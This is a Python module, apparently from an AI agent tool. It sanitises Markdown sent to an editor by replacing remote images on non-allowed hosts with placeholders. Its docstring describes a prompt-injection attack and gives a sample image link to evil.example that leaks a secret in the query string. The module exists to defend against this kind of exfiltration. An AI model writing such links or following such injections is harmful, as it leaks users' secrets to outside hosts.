"""Text for the editor with no remote image in it: the editor renders what the agent sends as
Markdown, and an image it loads sends its URL — query and all — with no tool call and no
approval. A prompt injection that gets the model to write `![x](https://evil.example/?d=SECRET)`
would otherwise leak SECRET as soon as the reply is shown.

Every image that could load from off the machine — Markdown `![alt](url)` (entities and escapes in
the address decoded as the renderer decodes them), reference-style `![alt][ref]`, an HTML tag
(`<img src>`, `srcset`, `poster`, a style's `url(…)`) — whose host is not on the run's egress
allow-list (`safety/egress.py`'s host check) becomes a placeholder naming its host, as the serve
page's Content-Security-Policy blocks it there. Local images (relative paths, `file:`, `data:`)
stay. Links are left alone: following one is the user's click, and the editor shows where it goes.

The rule is "every `![` outside a fenced code block is kept only when it parses, the way a
CommonMark renderer parses it, into an inline image with a plain label and an allowed address";
anything less certain (a reference, an odd label, a half-written address) is replaced, so a
renderer that reads the text differently still finds no image. Fenced code blocks (at column 0,
outside an HTML block) are passed through as written; inline code is not exempt, since a link or
tag that starts before a backtick can end after it.

Streamed text is held back only from the start of an unfinished image or tag (or a line that may
open a fence) until it is complete, so ordinary prose passes at once.
"""

from __future__ import annotations

import html
import re
from collections.abc import Sequence
from dataclasses import dataclass, field
from typing import Any

from acp.schema import (
    AgentMessageChunk,
    AgentPlanUpdate,
    AgentThoughtChunk,
    ContentToolCallContent,
    TextContentBlock,
    ToolCallProgress,
    ToolCallStart,
    ToolCallUpdate,
    UserMessageChunk,
)

from loopwright.errors import ToolError
from loopwright.safety.egress import egress_hosts, host_allowed

_SPECIAL = re.compile(r"[\n\\!<]")
_FENCE_OPEN = re.compile(r"(`{3,}|~{3,})([^\n]*)(?:\n|$)")
_MAYBE_FENCE = re.compile(r"(?:`{1,2}|~{1,2})?")  # an opening fence's first characters
_HTML_BLOCK = re.compile(r"[ ]{0,3}<[A-Za-z/!?]")
# HTML blocks that a blank line does not end (CommonMark's kinds 1 to 5), and what ends them
_RAW_BLOCKS = ((re.compile(r"[ ]{0,3}<(pre|script|style|textarea)(?=[\s>]|$)", re.IGNORECASE),
                "</{}>"),
               (re.compile(r"[ ]{0,3}<!--"), "-->"), (re.compile(r"[ ]{0,3}<\?"), "?>"),
               (re.compile(r"[ ]{0,3}<!\[CDATA\["), "]]>"),
               (re.compile(r"[ ]{0,3}<![A-Za-z]"), ">"))
_BLANK_LINE = re.compile(r"\n[ \t]*\n")
_TAG_NAME = re.compile(r"<([A-Za-z][A-Za-z0-9-]*)")
_TAG_END = re.compile(r"\"[^\"]*\"|'[^']*'|>")
# `(url "title")` after an image's label, as CommonMark reads it (but for nested parentheses in
# the address: such an image is replaced)
_INLINE_DESTINATION = re.compile(
    r"\([ \t]*\n?[ \t]*(<[^<>\n]*>|[^\s()<][^\s()]*|)"
    r"(?:(?:[ \t]+|[ \t]*\n[ \t]*)(\"[^\"]*\"|'[^']*'|\([^()]*\)))?[ \t]*\n?[ \t]*\)")
_REFERENCE = re.compile(r"\[[^\[\]\n]*\]")
_SCHEME = re.compile(r"([A-Za-z][A-Za-z0-9+.\-]*):")
# in a tag: an address that reaches a host (any scheme, or none: `//host`, `\\host`)
_TAG_URL = re.compile(r"(?:[A-Za-z][A-Za-z0-9+.\-]*:)?[\\/]{2}[^\s\"'<>`,)]*"
                      r"|\b(?:https?|ftp|wss?):[^\s\"'<>`,)]*", re.IGNORECASE)
_LOCAL_SCHEMES = frozenset({"data", "file"})
_TAB_AND_NEWLINE = str.maketrans("", "", "\t\n\r")
_ASCII_PUNCTUATION = frozenset("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~")


@dataclass
class _Lines:
    """Where the scan stands in the block structure: what decides if a fence opens."""

    fence: str = ""  # the opening fence's run (```` ``` ````, `~~~~`) while inside one
    html_block_end: str | None = None  # "" ends at a blank line; "</pre>" … at that tag
    line_start: bool = True


@dataclass(frozen=True)
class MarkdownGuard:
    """The editor's text made inert for one session: `allowed` is its egress allow-list."""

    allowed: Sequence[str] = ()

    def text(self, text: str) -> str:
        """A whole text (a tool result, a title, a replayed message) made inert."""
        return _scan(text, _Lines(), final=True, allowed=self.allowed)[0]

    def stream(self) -> InertStream:
        return InertStream(self)

    def update(self, update: Any) -> Any:
        """A session update (or a permission question's tool call) whose Markdown the editor
        renders, made inert; a diff's old and new text are left exact."""
        if isinstance(update, AgentMessageChunk | AgentThoughtChunk | UserMessageChunk):
            if isinstance(update.content, TextContentBlock):
                content = update.content.model_copy(update={"text": self.text(update.content.text)})
                return update.model_copy(update={"content": content})
            return update
        if isinstance(update, AgentPlanUpdate):
            entries = [entry.model_copy(update={"content": self.text(entry.content)})
                       for entry in update.entries]
            return update.model_copy(update={"entries": entries})
        if isinstance(update, ToolCallStart | ToolCallProgress | ToolCallUpdate):
            changes: dict[str, Any] = {}
            if update.title is not None:
                changes["title"] = self.text(update.title)
            if update.content is not None:
                changes["content"] = [self._tool_content(part) for part in update.content]
            return update.model_copy(update=changes)
        return update

    def _tool_content(self, part: Any) -> Any:
        if isinstance(part, ContentToolCallContent) and isinstance(part.content, TextContentBlock):
            block = part.content.model_copy(update={"text": self.text(part.content.text)})
            return part.model_copy(update={"content": block})
        return part


@dataclass
class InertStream:
    """One streamed message (or thought): `feed` each delta, `end` when the editor's Markdown
    block ends (another kind of update comes, or the turn ends)."""

    guard: MarkdownGuard
    _pending: str = ""
    _lines: _Lines = field(default_factory=_Lines)

    def feed(self, text: str) -> str:
        self._pending += text
        out, used = _scan(self._pending, self._lines, final=False, allowed=self.guard.allowed)
        self._pending = self._pending[used:]
        return out

    def end(self) -> str:
        out = _scan(self._pending, self._lines, final=True, allowed=self.guard.allowed)[0]
        self._pending, self._lines = "", _Lines()
        return out


def _scan(text: str, lines: _Lines, *, final: bool, allowed: Sequence[str]) -> tuple[str, int]:
    """`text` made inert as far as it can be told (all of it when `final`): the output and how
    many characters of `text` it covers; `lines` is updated to that point."""
    out: list[str] = []
    i, n = 0, len(text)
    while i < n:
        if lines.line_start:
            taken = _line_start(text, i, lines, final, out)
            if taken is None:
                break  # wait for the rest of the line
            if taken > i:
                i = taken
                continue
            lines.line_start = False
        match = _SPECIAL.search(text, i)
        stop = match.start() if match else n
        out.append(text[i:stop])
        i = stop
        if i >= n:
            break
        char = text[i]
        if char == "\n":
            out.append(char)
            i += 1
            lines.line_start = True
            continue
        if i + 1 >= n and not final:
            break  # `\`, `!` or `<` as the last character: what follows decides
        if char == "\\":
            out.append(text[i:i + 2])
            i += 2
            continue
        end = (_image(text, i, final, allowed, out) if char == "!"
               else _tag(text, i, final, allowed, out))
        if end is None:
            break
        i = end
    return "".join(out), i


def _line_start(text: str, i: int, lines: _Lines, final: bool, out: list[str]) -> int | None:
    """At the start of a line: pass a fenced block's line (or its opening line) through and
    return where the next line starts; `i` if the line is ordinary; None to wait for more."""
    eol = text.find("\n", i)
    line = text[i:] if eol < 0 else text[i:eol + 1]
    if lines.fence:
        if eol < 0 and not final:
            return None
        closing = line.strip(" \t\n")
        if (len(line) - len(line.lstrip(" ")) <= 3 and closing.startswith(lines.fence)
                and set(closing) == {lines.fence[0]}):
            lines.fence = ""
        out.append(line)
        return i + len(line)
    if lines.html_block_end == "" and eol >= 0 and not line.strip():
        lines.html_block_end = None  # a blank line ends it
    if lines.html_block_end is None:
        opening = _FENCE_OPEN.match(text, i)
        if opening is None and not final and eol < 0 and _MAYBE_FENCE.fullmatch(line):
            return None
        if opening is not None:
            if eol < 0 and not final:
                return None
            run, info = opening.group(1), opening.group(2)
            if not (run[0] == "`" and "`" in info):
                lines.fence = run
                out.append(line)
                return i + len(line)
        if _HTML_BLOCK.match(text, i):
            lines.html_block_end = _html_block_end(text, i)
    elif lines.html_block_end and lines.html_block_end in line.lower():
        lines.html_block_end = None
    return i


def _html_block_end(text: str, i: int) -> str:
    for start, end in _RAW_BLOCKS:
        found = start.match(text, i)
        if found is not None:
            return end.format(*(group.lower() for group in found.groups()))
    return ""


def _image(text: str, i: int, final: bool, allowed: Sequence[str],
           out: list[str]) -> int | None:
    """At `!`: an image kept as written, or its placeholder; where the scan goes on."""
    if text[i + 1:i + 2] != "[":
        out.append("!")
        return i + 1
    label_end = _label_end(text, i + 2)
    if label_end is None:
        if final:  # never closed: not an image, and now it cannot become one
            out.append("\\!")
            return i + 1
        return None
    label = text[i + 2:label_end]
    if text[label_end] != "]":  # a paragraph ended inside the label
        out.append(_placeholder(label, None))
        return label_end
    inline = _inline_destination(text, label_end + 1, final)
    if inline is None:
        return None
    destination, end = inline
    plain_label = not any(char in label for char in "`<\\!&\n")
    host = _blocked_host(destination, allowed) if destination is not None else "?"
    if destination is not None and plain_label and host is None:
        out.append(text[i:end])
        return end
    if destination is None:  # `![alt][ref]`, `![alt][]`, `![alt]`: its address may come later
        reference = _REFERENCE.match(text, label_end + 1)
        end = reference.end() if reference else label_end + 1
    out.append(_placeholder(label, None if host in (None, "?") else host))
    return end


def _label_end(text: str, start: int) -> int | None:
    """The `]` closing an image label opened just before `start` (brackets nest); None if the
    text ends first. A blank line closes nothing, but then the label never closes either."""
    depth = 0
    i = start
    while i < len(text):
        char = text[i]
        if char == "\\":
            i += 2
            continue
        if char == "[":
            depth += 1
        elif char == "]":
            if depth == 0:
                return i
            depth -= 1
        elif char == "\n" and _BLANK_LINE.match(text, i):
            return i  # the paragraph ends: treated as a (broken) label, so it is replaced
        i += 1
    return None


def _inline_destination(text: str, start: int, final: bool
                        ) -> tuple[str | None, int] | None:
    """After an image's `]`: `(destination, end)` of an inline `(url "title")`, `(None,
    start)` if there is none (a reference image, or a broken one), None to wait for more."""
    if start >= len(text):
        return None if not final else (None, start)
    if text[start] != "(":
        return None, start
    parsed = _INLINE_DESTINATION.match(text, start)
    if parsed is not None:
        raw = parsed.group(1)
        return (raw[1:-1] if raw.startswith("<") else raw), parsed.end()
    closing = text.find(")", start)
    if closing < 0 and not final and not _BLANK_LINE.search(text, start):
        return None
    return None, start  # not an inline image the way it is written: replaced


def _tag(text: str, i: int, final: bool, allowed: Sequence[str], out: list[str]) -> int | None:
    """At `<`: an HTML tag that would load something from a host off the allow-list becomes a
    placeholder; links (`<a …>`), other tags and autolinks pass."""
    name = _TAG_NAME.match(text, i)
    if name is None or text[name.end():name.end() + 1] == ":" or name.end() >= len(text):
        if name is not None and name.end() >= len(text) and not final:
            return None
        out.append("<")
        return i + 1
    blank = _BLANK_LINE.search(text, i)
    limit = blank.start() if blank else len(text)
    end = name.end()
    while True:  # the first `>` outside quotes; no tag runs past a blank line
        found = _TAG_END.search(text, end, limit)
        if found is None:
            if blank is None and not final:
                return None
            end = limit
            break
        end = found.end()
        if found.group() == ">":
            break
    tag = text[i:end]
    decoded = html.unescape(tag).translate(_TAB_AND_NEWLINE)
    blocked = None if name.group(1).lower() == "a" else next(
        (host for url in _TAG_URL.findall(decoded)
         if (host := _blocked_host(url, allowed)) is not None), None)
    if blocked is not None:
        out.append(_placeholder("", blocked if blocked != "?" else None))
        return end
    if "![" in tag:  # a renderer that does not take it for a tag finds an image in it
        out.append("<")
        return i + 1
    out.append(tag)
    return end


def _blocked_host(destination: str, allowed: Sequence[str]) -> str | None:
    """None if an image at `destination` stays on this machine or goes to an allowed host; else
    the host it would reach ("?" when none can be told: refused all the same)."""
    address = html.unescape(re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", destination))
    address = address.translate(_TAB_AND_NEWLINE).strip("\x00 \x0b\x0c")
    scheme = _SCHEME.match(address)
    if scheme is None and not address.startswith(("//", "\\\\", "/\\", "\\/")):
        return None  # a path: the editor looks for it in the project
    if scheme is not None and scheme.group(1).lower() in _LOCAL_SCHEMES:
        return None
    url = address.replace("\\", "/") if scheme else "https:" + address.replace("\\", "/")
    try:
        hosts = egress_hosts(url)
    except ToolError:
        return "?"
    return next((host for host in hosts if not host_allowed(host, allowed)), None)


def _placeholder(alt: str, host: str | None) -> str:
    """What stands in for a blocked image: its alt text and host as plain text (no brackets
    that could pair with what follows into a link, no address to load)."""
    words = " ".join(alt.split())[:200]
    shown = "".join("\\" + char if char in _ASCII_PUNCTUATION else char for char in words)
    where = f" from {''.join(c for c in host if c.isalnum() or c in '.-:')}" if host else ""
    return f"(image{where} not loaded{': ' + shown if shown else ''})"
